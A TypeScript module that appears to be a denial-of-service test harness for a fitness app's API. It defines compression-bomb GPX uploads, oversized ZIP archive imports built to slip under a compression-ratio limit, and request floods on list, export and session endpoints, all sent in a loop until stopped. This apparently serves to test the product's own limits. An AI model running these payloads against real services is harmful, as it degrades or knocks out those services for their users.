import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import type { Athlete } from '../shared/athletes.ts';
import { type Call, call } from '../shared/http.ts';

interface AttackOptions {
  /** The product's origin, such as `http://127.0.0.1:3000`. */
  readonly origin: string;
  /** The attacker's accounts. */
  readonly athletes: readonly Athlete[];
  readonly stopSignal: AbortSignal;
}

interface AttackRequest {
  readonly method: Call['method'];
  readonly path: string;
  readonly body?: string | Uint8Array;
}

interface Attack {
  readonly accountCount: number;
  /** Concurrent requests per account, 1 by default. */
  readonly concurrency?: number;
  /** Pause after each response with a status other than 200. */
  readonly pauseMs: number;
  createRequest(): AttackRequest;
}

const SESSION_PATH = '/api/sessions/01a1f8d3-ea00-71b2-81d9-776172458cf9';
/** A body with nearly as many entries as a list may have, each invalid. */
const BAD_SAMPLES = JSON.stringify({ hrData: Array(9_900).fill({ second: 1, pulse: 150 }) });
/** Nests elements with 10 KB names around thousands of elements. The megabyte is compressed to 1,400 bytes. */
const createNestedGpx = () =>
  gzipSync(
    `${Array.from({ length: 50 }, (_, depth) => `<n${depth}${'x'.repeat(10_000)}>`).join('')}${'<b/>'.repeat(125_000)}`,
  );

/** Number of digits in an 8 MB row, each followed by a comma. */
const DIGIT_COUNT = 4_150_000;

/** Creates an account archive with an 8 MB row in a 2 MB ZIP, below the limit on the compression ratio. */
function createLongRowArchive(): Uint8Array {
  const digits = Array.from({ length: DIGIT_COUNT }, () => Math.floor(Math.random() * 10)).join();
  const manifest = {
    format: 'threshold-account',
    formatVersion: 4,
    productVersion: '1.0',
    exportedAt: new Date().toISOString(),
    files: ['health.json'],
  };
  return zipSync({
    'manifest.json': strToU8(JSON.stringify(manifest)),
    'health.json': strToU8(`{\n"health_entry": [\n{"id":[${digits}]}\n]\n}\n`),
  });
}

export const ATTACKS = {
  // Each request lists an account's 30,000 workouts.
  lists: {
    accountCount: 1,
    concurrency: 6,
    pauseMs: 1_000,
    createRequest: () => ({ method: 'GET', path: '/api/workouts' }),
  },
  // Each archive contains a row of 8 MB.
  archives: {
    accountCount: 4,
    pauseMs: 1_000,
    createRequest: () => ({ method: 'POST', path: '/api/account/import', body: createLongRowArchive() }),
  },
  // The track takes a long time to parse.
  decoder: {
    accountCount: 2,
    pauseMs: 1_000,
    createRequest: () => ({ method: 'POST', path: '/api/imports?name=run.gpx.gz', body: createNestedGpx() }),
  },
  // The client sends invalid heart rates without a pause.
  'refused-bodies': {
    accountCount: 1,
    pauseMs: 0,
    createRequest: () => ({ method: 'PATCH', path: SESSION_PATH, body: BAD_SAMPLES }),
  },
  // The client requests up to 50 exports a second.
  exports: {
    accountCount: 1,
    pauseMs: 20,
    createRequest: () => ({ method: 'GET', path: '/api/account/export' }),
  },
} as const satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof ATTACKS;

/** Every account keeps sending the attack's request until the stop signal. */
export async function runAttack(
  name: AttackName,
  { origin, athletes, stopSignal }: AttackOptions,
): Promise<void> {
  const { concurrency = 1, pauseMs, createRequest }: Attack = ATTACKS[name];
  const { path, ...request } = createRequest();
  const sendRepeatedly = async ({ headers }: Athlete) => {
    while (!stopSignal.aborted) {
      const { status } = await call({ ...request, url: origin + path, headers, signal: stopSignal });
      if (status !== 200) await pause(pauseMs, undefined, { signal: stopSignal }).catch(() => undefined);
    }
  };
  await Promise.all(
    athletes.flatMap((athlete) => Array.from({ length: concurrency }, () => sendRepeatedly(athlete))),
  );
}
